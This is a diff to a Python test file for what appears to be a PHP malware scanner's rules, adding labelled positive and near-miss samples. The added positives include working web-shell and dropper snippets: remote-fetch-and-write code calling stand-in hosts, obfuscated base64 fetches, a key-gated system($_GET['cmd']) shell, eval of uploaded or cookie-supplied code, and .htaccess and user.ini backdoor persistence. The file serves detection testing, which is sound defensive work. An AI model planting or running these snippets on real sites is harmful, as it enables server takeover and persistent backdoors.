@@ -127,36 +127,36 @@ CASES: list[tuple[str, bytes, bool]] = [
         True,
     ),  # a/a03.php embedded
     (
-        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
         plain("<?php @copy('http://files.example.com/s.txt', 'shell.php'); echo 'done';"),
         True,
     ),  # a/a04.php
     (
-        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
         padded("<?php @copy('http://files.example.com/s.txt', 'shell.php'); echo 'done';"),
         True,
     ),  # a/a04.php padded
     (
-        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
         embedded("<?php @copy('http://files.example.com/s.txt', 'shell.php'); echo 'done';"),
         True,
     ),  # a/a04.php embedded
     (
-        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
         plain(
             '<?php copy("https://pastebin.com/raw/Xy12Ab", $_SERVER[\'DOCUMENT_ROOT\'] . "/wp-includes/class-wp-cache.php");'
         ),
         True,
     ),  # a/a05.php
     (
-        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
         padded(
             '<?php copy("https://pastebin.com/raw/Xy12Ab", $_SERVER[\'DOCUMENT_ROOT\'] . "/wp-includes/class-wp-cache.php");'
         ),
         True,
     ),  # a/a05.php padded
     (
-        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
         embedded(
             '<?php copy("https://pastebin.com/raw/Xy12Ab", $_SERVER[\'DOCUMENT_ROOT\'] . "/wp-includes/class-wp-cache.php");'
         ),
@@ -2674,17 +2674,17 @@ CASES: list[tuple[str, bytes, bool]] = [
         True,
     ),  # b/r11.php embedded
     (
-        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
         plain("<?php copy('http://files.example.biz/s.txt', $_SERVER['DOCUMENT_ROOT'] . '/' . 'x.php');"),
         True,
     ),  # b/r12.php
     (
-        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
         padded("<?php copy('http://files.example.biz/s.txt', $_SERVER['DOCUMENT_ROOT'] . '/' . 'x.php');"),
         True,
     ),  # b/r12.php padded
     (
-        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
         embedded("<?php copy('http://files.example.biz/s.txt', $_SERVER['DOCUMENT_ROOT'] . '/' . 'x.php');"),
         True,
     ),  # b/r12.php embedded
@@ -5397,6 +5397,207 @@ CASES: list[tuple[str, bytes, bool]] = [
         ini_padded('auto_prepend_file = "/home/u/public_html/wp-content/uploads/2024/01/Image.JPG"\n'),
         True,
     ),  # g/g20.user.ini padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php $b = base64_decode('aHR0cHM6Ly9maWxlcy5leGFtcGxlLmJpei9zLnR4dA=='); copy($b, __DIR__ . '/wp-load-x.php');"
+        ),
+        True,
+    ),  # h/h01.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php $b = base64_decode('aHR0cHM6Ly9maWxlcy5leGFtcGxlLmJpei9zLnR4dA=='); copy($b, __DIR__ . '/wp-load-x.php');"
+        ),
+        True,
+    ),  # h/h01.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php $b = base64_decode('aHR0cHM6Ly9maWxlcy5leGFtcGxlLmJpei9zLnR4dA=='); copy($b, __DIR__ . '/wp-load-x.php');"
+        ),
+        True,
+    ),  # h/h01.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php if (!is_file($f = __DIR__ . '/.wp-cache.php')) file_put_contents($f, gzinflate(base64_decode(file_get_contents('http://files.example.biz/z'))));"
+        ),
+        True,
+    ),  # h/h02.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php if (!is_file($f = __DIR__ . '/.wp-cache.php')) file_put_contents($f, gzinflate(base64_decode(file_get_contents('http://files.example.biz/z'))));"
+        ),
+        True,
+    ),  # h/h02.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php if (!is_file($f = __DIR__ . '/.wp-cache.php')) file_put_contents($f, gzinflate(base64_decode(file_get_contents('http://files.example.biz/z'))));"
+        ),
+        True,
+    ),  # h/h02.php embedded
+    (
+        "SPAMGEAR_SHELLUI_BareUploader",
+        plain("<?php @move_uploaded_file($_FILES['u']['tmp_name'], $_FILES['u']['name']); ?>"),
+        True,
+    ),  # h/h03.php
+    (
+        "SPAMGEAR_SHELLUI_BareUploader",
+        padded("<?php @move_uploaded_file($_FILES['u']['tmp_name'], $_FILES['u']['name']); ?>"),
+        True,
+    ),  # h/h03.php padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain(
+            '<FilesMatch "\\.ph(p[3-7]?|tml)$">\nRequire all denied\n</FilesMatch>\n<FilesMatch "\\.(jpg)$">\nSetHandler application/x-httpd-php\n</FilesMatch>\n'
+        ),
+        True,
+    ),  # h/h05.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded(
+            '<FilesMatch "\\.ph(p[3-7]?|tml)$">\nRequire all denied\n</FilesMatch>\n<FilesMatch "\\.(jpg)$">\nSetHandler application/x-httpd-php\n</FilesMatch>\n'
+        ),
+        True,
+    ),  # h/h05.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        plain('auto_prepend_file = ".cache/.ht.sess"\n'),
+        True,
+    ),  # h/h07.user.ini
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        ini_padded('auto_prepend_file = ".cache/.ht.sess"\n'),
+        True,
+    ),  # h/h07.user.ini padded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        plain("<?php if ($_GET['key'] !== 'd8e8fca2dc0f896fd7cb4cb0031ba249') die(); system($_GET['cmd']);"),
+        True,
+    ),  # h/h08.php
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        padded("<?php if ($_GET['key'] !== 'd8e8fca2dc0f896fd7cb4cb0031ba249') die(); system($_GET['cmd']);"),
+        True,
+    ),  # h/h08.php padded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        embedded(
+            "<?php if ($_GET['key'] !== 'd8e8fca2dc0f896fd7cb4cb0031ba249') die(); system($_GET['cmd']);"
+        ),
+        True,
+    ),  # h/h08.php embedded
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        plain(
+            "<?php if (md5($_REQUEST['pwd']) == 'd8e8fca2dc0f896fd7cb4cb0031ba249') { $code = file_get_contents($_FILES['f']['tmp_name']); eval('?>' . $code); }"
+        ),
+        True,
+    ),  # h/h09.php
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        padded(
+            "<?php if (md5($_REQUEST['pwd']) == 'd8e8fca2dc0f896fd7cb4cb0031ba249') { $code = file_get_contents($_FILES['f']['tmp_name']); eval('?>' . $code); }"
+        ),
+        True,
+    ),  # h/h09.php padded
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        embedded(
+            "<?php if (md5($_REQUEST['pwd']) == 'd8e8fca2dc0f896fd7cb4cb0031ba249') { $code = file_get_contents($_FILES['f']['tmp_name']); eval('?>' . $code); }"
+        ),
+        True,
+    ),  # h/h09.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php if (isset($_COOKIE['u'])) { $c = file_get_contents(base64_decode($_COOKIE['u'])); eval($c); }"
+        ),
+        True,
+    ),  # h/h10.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php if (isset($_COOKIE['u'])) { $c = file_get_contents(base64_decode($_COOKIE['u'])); eval($c); }"
+        ),
+        True,
+    ),  # h/h10.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php if (isset($_COOKIE['u'])) { $c = file_get_contents(base64_decode($_COOKIE['u'])); eval($c); }"
+        ),
+        True,
+    ),  # h/h10.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain("<?php $_ = $_POST; @file_put_contents($_['n'], $_['c']);"),
+        True,
+    ),  # h/h11.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded("<?php $_ = $_POST; @file_put_contents($_['n'], $_['c']);"),
+        True,
+    ),  # h/h11.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded("<?php $_ = $_POST; @file_put_contents($_['n'], $_['c']);"),
+        True,
+    ),  # h/h11.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'Uptime-Kuma') !== false) { $u = $_GET['u']; $f = $_GET['f']; file_put_contents($f, file_get_contents($u)); }"
+        ),
+        True,
+    ),  # h/h12.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'Uptime-Kuma') !== false) { $u = $_GET['u']; $f = $_GET['f']; file_put_contents($f, file_get_contents($u)); }"
+        ),
+        True,
+    ),  # h/h12.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'Uptime-Kuma') !== false) { $u = $_GET['u']; $f = $_GET['f']; file_put_contents($f, file_get_contents($u)); }"
+        ),
+        True,
+    ),  # h/h12.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain("<?php system('curl -s http://files.example.biz/y -o ' . __DIR__ . '/z.php');"),
+        True,
+    ),  # h/h14.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded("<?php system('curl -s http://files.example.biz/y -o ' . __DIR__ . '/z.php');"),
+        True,
+    ),  # h/h14.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded("<?php system('curl -s http://files.example.biz/y -o ' . __DIR__ . '/z.php');"),
+        True,
+    ),  # h/h14.php embedded
+    (
+        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
+        plain('<?php exec("wget -q -O wp-tmp.php http://files.example.biz/w.txt");'),
+        True,
+    ),  # h/h15.php
+    (
+        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
+        padded('<?php exec("wget -q -O wp-tmp.php http://files.example.biz/w.txt");'),
+        True,
+    ),  # h/h15.php padded
+    (
+        "SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile",
+        embedded('<?php exec("wget -q -O wp-tmp.php http://files.example.biz/w.txt");'),
+        True,
+    ),  # h/h15.php embedded
     # near-misses: legit code beside the shapes above
     (
         "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
@@ -6145,6 +6346,48 @@ CASES: list[tuple[str, bytes, bool]] = [
         "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
         embedded(
             "<?php\n$p = './uploads/' . md5($_FILES['file']['name']);\nmove_uploaded_file($_FILES['file']['tmp_name'], $p);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php\n$docs = 'https://wordpress.org/support/';\nif (!is_file($f = WP_CONTENT_DIR . '/index.php')) { copy(ABSPATH . 'wp-content/index.php', WP_CONTENT_DIR . '/index.php'); }\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php\n$docs = 'https://wordpress.org/support/';\nif (!is_file($f = WP_CONTENT_DIR . '/index.php')) { copy(ABSPATH . 'wp-content/index.php', WP_CONTENT_DIR . '/index.php'); }\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php\n$docs = 'https://wordpress.org/support/';\nif (!is_file($f = WP_CONTENT_DIR . '/index.php')) { copy(ABSPATH . 'wp-content/index.php', WP_CONTENT_DIR . '/index.php'); }\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php\nexec('curl -s https://example.org/ping -o /dev/null', $out);\n$log = __DIR__ . '/cron.php';\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php\nexec('curl -s https://example.org/ping -o /dev/null', $out);\n$log = __DIR__ . '/cron.php';\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php\nexec('curl -s https://example.org/ping -o /dev/null', $out);\n$log = __DIR__ . '/cron.php';\n"
         ),
         False,
     ),
